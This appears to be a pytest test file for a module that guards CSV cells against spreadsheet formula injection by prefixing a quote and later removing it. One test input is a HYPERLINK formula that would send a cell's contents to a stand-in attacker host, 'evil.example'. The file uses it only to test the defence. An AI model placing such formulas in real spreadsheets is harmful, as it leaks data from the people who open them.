"""Neutralising CSV text cells against spreadsheet formula injection, and restoring them."""

import itertools
import random

import pytest

from bot.transfer.cells import QUOTE, TRIGGERS, neutralise, restore

HARMLESS = [
    "",
    "filler jam",
    'caps "blue", batch 7\nsecond line',
    "'tis the season",  # a quote not followed by a trigger is left alone
    "'",
    "''",
    "' =1+1",  # a space, not a trigger, after the quote
    " =1+1",  # a leading space is not on OWASP's list
    "\n=1+1",
    "a=b",
    "1-2",
    "#REF!",
    "U0LEAD0001",
    "Riverside",
    "2026-03-02T07:00:00+00:00",
    "＝1+1",  # a full-width equals sign is a different character
]


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_cell_starting_with_a_trigger_gets_a_quote_and_loses_it_again(trigger: str) -> None:
    for text in (trigger, f"{trigger}1+1", f'{trigger}HYPERLINK("http://evil.example/","x")'):
        cell = neutralise(text)
        assert cell == QUOTE + text
        assert restore(cell) == text


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_typed_quote_before_a_trigger_survives_the_round_trip(trigger: str) -> None:
    for quotes in range(1, 4):
        text = QUOTE * quotes + trigger + "x"
        assert neutralise(text) == QUOTE * (quotes + 1) + trigger + "x"
        assert restore(neutralise(text)) == text


def test_the_triggers_are_owasps() -> None:
    assert set(TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    assert QUOTE == "'"


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_written_and_read_back_unchanged(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


def test_the_hyperlink_note_from_the_report() -> None:
    note = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    assert neutralise(note) == "'" + note
    assert restore(neutralise(note)) == note


def _check(text: str) -> None:
    cell = neutralise(text)
    assert restore(cell) == text, repr(text)
    assert not cell.startswith(TRIGGERS), repr(text)
    assert cell in (text, QUOTE + text), repr(text)


def test_every_short_string_of_quotes_triggers_and_letters_round_trips() -> None:
    alphabet = [QUOTE, *TRIGGERS, "a", " ", "\n"]
    seen: dict[str, str] = {}
    for length in range(6):
        for letters in itertools.product(alphabet, repeat=length):
            text = "".join(letters)
            _check(text)
            cell = neutralise(text)
            assert cell not in seen, (text, seen.get(cell))  # no two texts share a cell
            seen[cell] = text
    assert len(seen) == sum(len(alphabet) ** n for n in range(6))


def test_many_random_strings_round_trip() -> None:
    rng = random.Random(20260310)
    # weighted towards what matters: quotes and triggers, then anything printable or not
    alphabet = [QUOTE] * 6 + list(TRIGGERS) * 3 + list('ab ,"\n\\é€') + ["\x00", "\u2028"]
    for _ in range(20_000):
        text = "".join(rng.choices(alphabet, k=rng.randrange(0, 12)))
        _check(text)
    for _ in range(2_000):
        text = "".join(chr(rng.randrange(0, 0x3000)) for _ in range(rng.randrange(0, 8)))
        _check(text)
